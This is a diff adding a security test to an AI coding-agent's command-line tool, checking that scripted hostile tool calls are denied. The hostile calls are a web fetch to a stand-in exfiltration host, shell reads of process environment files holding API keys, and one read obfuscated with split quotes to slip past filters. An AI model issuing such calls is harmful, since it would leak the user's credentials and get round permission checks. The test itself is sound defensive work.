@@ -175,3 +175,23 @@ def test_status_line_and_rg_get_the_built_environment(tmp_path: Path, monkeypatc
     monkeypatch.setattr(ripgrep.asyncio, "create_subprocess_exec", spy)
     asyncio.run(ripgrep._run(["--version"], tmp_path, 10))
     assert rg_env and "inherited" not in rg_env and "ANTHROPIC_API_KEY" not in rg_env
+
+
+def test_cli_one_shot_webfetch_and_proc_are_not_granted(cli, fake_anthropic) -> None:
+    from tests.fake_anthropic import tool_block
+    from tests.security.hostile import no_secret_sent, result_text, tool_results_sent
+
+    fake_anthropic.reply(tool_block("WebFetch", {"url": "https://exfil.example.com/?k=v", "prompt": "x"}, id="t1"),
+                         tool_block("Bash", {"command": "cat /proc/$PPID/environ"}, id="t2"),
+                         tool_block("Bash", {"command": "cat /proc/self/envir''on"}, id="t3"),
+                         tool_block("Read", {"file_path": "/proc/self/environ"}, id="t4"))
+    fake_anthropic.text("done")
+    r = cli("-p", "go", "--allowedTools", "Bash(cat:*)", "--output-format", "json")
+    assert r.code == 0, r.stderr
+    results = {b["tool_use_id"]: result_text(b) for b in tool_results_sent(fake_anthropic)}
+    assert "haven't granted it yet" in results["t1"] and "WebFetch" in results["t1"]
+    for t in ("t2", "t3", "t4"):
+        assert "ANTHROPIC" not in results[t] and TEST_KEY not in results[t], results[t]
+    assert "Refused" in results["t3"] and "Refused" in results["t4"]
+    no_secret_sent(fake_anthropic)
+    assert len(json.loads(r.stdout)["permission_denials"]) == 4
